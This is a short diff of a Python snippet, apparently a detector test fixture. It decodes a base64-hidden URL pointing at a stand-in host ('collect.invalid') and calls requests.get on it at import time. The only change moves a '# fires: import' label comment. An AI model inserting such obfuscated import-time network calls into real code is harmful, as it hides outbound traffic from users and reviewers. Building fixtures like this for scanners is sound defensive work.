@@ -1,3 +1,3 @@
 import base64, requests
-host = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvYQ==").decode()  # fires: import
-requests.get(host)
+host = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvYQ==").decode()
+requests.get(host)  # fires: import
